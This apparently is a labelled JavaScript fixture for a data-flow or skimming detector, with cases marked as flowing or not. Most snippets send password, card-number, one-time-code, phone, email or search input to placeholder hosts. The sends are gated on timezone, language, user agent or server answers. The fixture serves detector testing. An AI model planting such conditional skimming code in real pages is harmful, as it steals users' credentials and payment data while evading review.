// Conditions that stand in functions around functions, in getters, and in predicates that are handed over.

//# wrapper-applies-arguments
// flow: phone > waa.gw16.example via fetch
// guard: timezone equals Asia/Tokyo
function inJapan(fn) {
  return function () {
    if (Intl.DateTimeFormat().resolvedOptions().timeZone !== 'Asia/Tokyo') return;
    fn.apply(this, arguments);
  };
}
var sendPhone = inJapan(function (tel) { fetch('https://waa.gw16.example/t', { method: 'POST', body: tel }); });
document.querySelector('input[type=tel]').onchange = function () { sendPhone(this.value); };

//# wrapper-spreads-its-arguments
// flow: email > wsa.gw16.example via beacon
// guard: storage equals yes
const ifAgreed = (fn) => (...args) => (localStorage.getItem('agreed') === 'yes' ? fn(...args) : undefined);
const beat = ifAgreed((mail) => navigator.sendBeacon('https://wsa.gw16.example/m', mail));
document.querySelector('input[type=email]').addEventListener('change', (e) => beat(e.target.value));

//# handler-made-by-a-wrapper
// flow: search > hmw.gw16.example via image
// guard: language starts-with pt
const onlyIn = (prefix, handler) => (event) => { if (navigator.language.startsWith(prefix)) handler(event); };
document.querySelector('input[type=search]').addEventListener('input', onlyIn('pt', (event) => {
  new Image().src = 'https://hmw.gw16.example/q.gif?q=' + encodeURIComponent(event.target.value);
}));

//# predicate-as-a-parameter
// flow: message > pap.gw16.example via fetch
// guard: language equals ja
function when(test, run) {
  if (test()) run(document.querySelector('textarea').value);
}
document.querySelector('#send').onclick = () => {
  when(() => navigator.language === 'ja', (text) => fetch('https://pap.gw16.example/m', { method: 'POST', body: text }));
};

//# predicate-of-options
// flow: card > poo.gw16.example via fetch
// guard: user-agent contains Android
class Capture {
  constructor({ test, url }) { this.test = test; this.url = url; }
  field(input) { input.onchange = () => { if (this.test()) fetch(this.url, { method: 'POST', body: input.value }); }; }
}
new Capture({ test: () => navigator.userAgent.includes('Android'), url: 'https://poo.gw16.example/c' })
  .field(document.querySelector('input[autocomplete=cc-number]'));

//# getter-as-a-condition
// flow: password > gac.gw16.example via beacon
// guard: timezone one-of Europe/Minsk | Europe/Moscow
class Policy {
  get allowed() { return ['Europe/Minsk', 'Europe/Moscow'].includes(Intl.DateTimeFormat().resolvedOptions().timeZone); }
}
const policy = new Policy();
document.querySelector('input[type=password]').onblur = (e) => {
  if (policy.allowed) navigator.sendBeacon('https://gac.gw16.example/p', e.target.value);
};

//# getter-of-a-literal
// flow: otp > gol.gw16.example via fetch
// guard: referrer contains shop.gol.example
const rules = { get fromShop() { return document.referrer.includes('shop.gol.example'); } };
document.querySelector('input[autocomplete=one-time-code]').onchange = async (e) => {
  if (!rules.fromShop) return;
  await fetch('https://gol.gw16.example/o', { method: 'POST', body: e.target.value });
};

//# near-predicate-that-fails
// no flow
// why: what is asked before says no, always
const guarded = (test, run) => (value) => { if (test()) run(value); };
const never = () => false;
document.querySelector('#email').onchange = (e) => guarded(never, (v) => navigator.sendBeacon('https://npf.gw16.example/m', v))(e.target.value);

//# near-wrapper-drops-the-argument
// no flow
// why: the wrapper calls with a constant
const anonymous = (fn) => () => fn('somebody');
const sayHello = anonymous((name) => fetch('https://nwd.gw16.example/h?n=' + name));
document.querySelector('input[autocomplete=name]').onchange = (e) => sayHello(e.target.value);

//# made-only-where-it-is-wanted
// flow: search > mow.gw16.example via beacon
// guard: server-answer equals eu
class Watcher {
  constructor(field) { field.addEventListener('input', () => this.note(field.value)); this.last = ''; }
  note(text) { if (text !== this.last) this.flush(text); }
  flush(text) { this.last = text; navigator.sendBeacon('https://mow.gw16.example/w', text); }
}
async function start() {
  const answer = await (await fetch('/region.json')).json();
  if (answer.region !== 'eu') return;
  new Watcher(document.querySelector('input[type=search]'));
}
start();

//# made-in-two-places
// flow: search > mtp.gw16.example via beacon
// no guard
class Watcher2 {
  constructor(field) { field.addEventListener('input', () => this.flush(field.value)); }
  flush(text) { navigator.sendBeacon('https://mtp.gw16.example/w', text); }
}
if (navigator.language === 'de') new Watcher2(document.querySelector('input[type=search].top'));
new Watcher2(document.querySelector('input[type=search]'));

//# answer-kept-in-an-object-of-its-own
// flow: message > ako.gw16.example via fetch
// guard: server-answer equals full
class Settings {
  static async load(url) { const r = await fetch(url); return new Settings(await r.json()); }
  constructor(raw) { this.raw = raw; }
  get level() { return this.raw.logging.level; }
}
document.querySelector('#send').onclick = async () => {
  const settings = await Settings.load('/settings.json');
  if (settings.level === 'full') await fetch('https://ako.gw16.example/l', { method: 'POST', body: document.querySelector('textarea').value });
};

//# own-observable-of-a-field
// flow: phone > oof.gw16.example via fetch
// guard: event change
const on = (target, name) => ({
  map(f) { return chain((next) => target.addEventListener(name, (e) => next(f(e)))); },
});
const chain = (start) => ({ map: (f) => chain((next) => start((v) => next(f(v)))), subscribe: (f) => start(f) });
on(document.querySelector('input[type=tel]'), 'change').map((e) => e.target.value).map((v) => v.trim())
  .subscribe((v) => fetch('https://oof.gw16.example/t', { method: 'POST', body: v }));

//# own-observable-of-a-button
// no flow
// why: what comes through the pipe is where the button is, which is sent nowhere
const clicks = (target, name) => ({ map(f) { return { subscribe: (g) => target.addEventListener(name, (e) => g(f(e))) }; } });
clicks(document.querySelector('#more'), 'click').map(() => 1).subscribe((n) => navigator.sendBeacon('https://oob.gw16.example/n', String(n)));
